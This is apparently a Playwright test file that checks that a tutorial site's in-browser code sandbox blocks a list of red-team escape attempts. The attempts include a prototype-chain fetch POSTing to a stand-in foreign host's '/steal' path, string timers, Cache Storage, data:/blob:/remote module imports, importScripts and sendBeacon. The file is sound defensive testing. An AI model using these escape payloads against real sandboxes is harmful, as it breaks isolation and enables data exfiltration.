/**
 * The red-team's escapes from the sandbox, each typed into a live example as a learner would, with a
 * listener on another local port standing in for a foreign host: it must see no request, and the
 * example must say the route is closed.
 */
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from '@playwright/test';
import { expect as baseExpect, liveExample, replaceCode, test } from './fixtures';

const expect = baseExpect.configure({ timeout: 20_000 });

const LESSON = '/lessons/first-request/';
const FIRST = 'Your first GET request';

test.use({ permissions: ['clipboard-read', 'clipboard-write'] });

let listener: Server;
let foreign = '';
let hits: string[] = [];

test.beforeAll(async () => {
  listener = createServer((request, response) => {
    hits.push(`${request.method} ${request.url}`);
    response.setHeader('Access-Control-Allow-Origin', '*');
    response.end('export default 1;');
  });
  await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve));
  foreign = `http://127.0.0.1:${(listener.address() as AddressInfo).port}`;
});
test.afterAll(() => new Promise<void>((resolve) => listener.close(() => resolve())));
test.beforeEach(() => {
  hits = [];
});

/** Runs `attack` in a try; the Console must say it was refused, and the listener see nothing. */
async function refused(page: Page, attack: string): Promise<void> {
  await page.goto(LESSON);
  const first = liveExample(page, FIRST);
  await replaceCode(
    page,
    first,
    [
      'const g = globalThis as any;',
      `const FOREIGN = ${JSON.stringify(foreign)};`,
      `try { await (async () => { ${attack} })(); console.log('escaped'); } catch { console.log('refused'); }`,
      'await new Promise((resolve) => setTimeout(resolve, 300));',
    ].join('\n'),
  );
  await first.run.click();
  await expect(first.status).toHaveText(/^(Finished|Failed)/, { timeout: 30_000 });
  await expect(first.console.locator('.console-line').first()).toHaveText('refused');
  expect(hits).toEqual([]);
}

const ESCAPES: Record<string, string> = {
  "the worker's own fetch on the prototype chain":
    "await Object.getPrototypeOf(Object.getPrototypeOf(g)).fetch.call(g, FOREIGN + '/steal', { method: 'POST', body: 'x' });",
  'a string timer through the prototype':
    "Object.getPrototypeOf(Object.getPrototypeOf(g)).setTimeout.call(g, 'fetch(\"' + FOREIGN + '/string\")', 0);",
  'storage buckets, then Cache Storage':
    "const bucket = await g.navigator.storageBuckets.open('b'); const cache = await bucket.caches.open('c'); await cache.add(FOREIGN + '/cache');",
  'Cache Storage directly':
    "const cache = await g.caches.open('c'); await cache.add(FOREIGN + '/cache');",
  'the origin private file system': 'await g.navigator.storage.getDirectory();',
  "another tab's locks": 'await g.navigator.locks.query();',
  IndexedDB: "g.indexedDB.open('db');",
  // A literal specifier is already a compile error; a computed one reaches the sandbox.
  'a data: module':
    "const url = ['data:text/javascript', 'export default 1'].join(','); await import(url);",
  'a blob: module':
    "await import(URL.createObjectURL(new Blob(['export default 1'], { type: 'text/javascript' })));",
  'a remote module': "await import(FOREIGN + '/module.js');",
  importScripts: "g.importScripts(FOREIGN + '/script.js');",
  'a beacon': "g.navigator.sendBeacon(FOREIGN + '/beacon', 'x');",
};

for (const [name, attack] of Object.entries(ESCAPES)) {
  test(`escape: ${name} is closed`, async ({ page }) => {
    await refused(page, attack);
  });
}
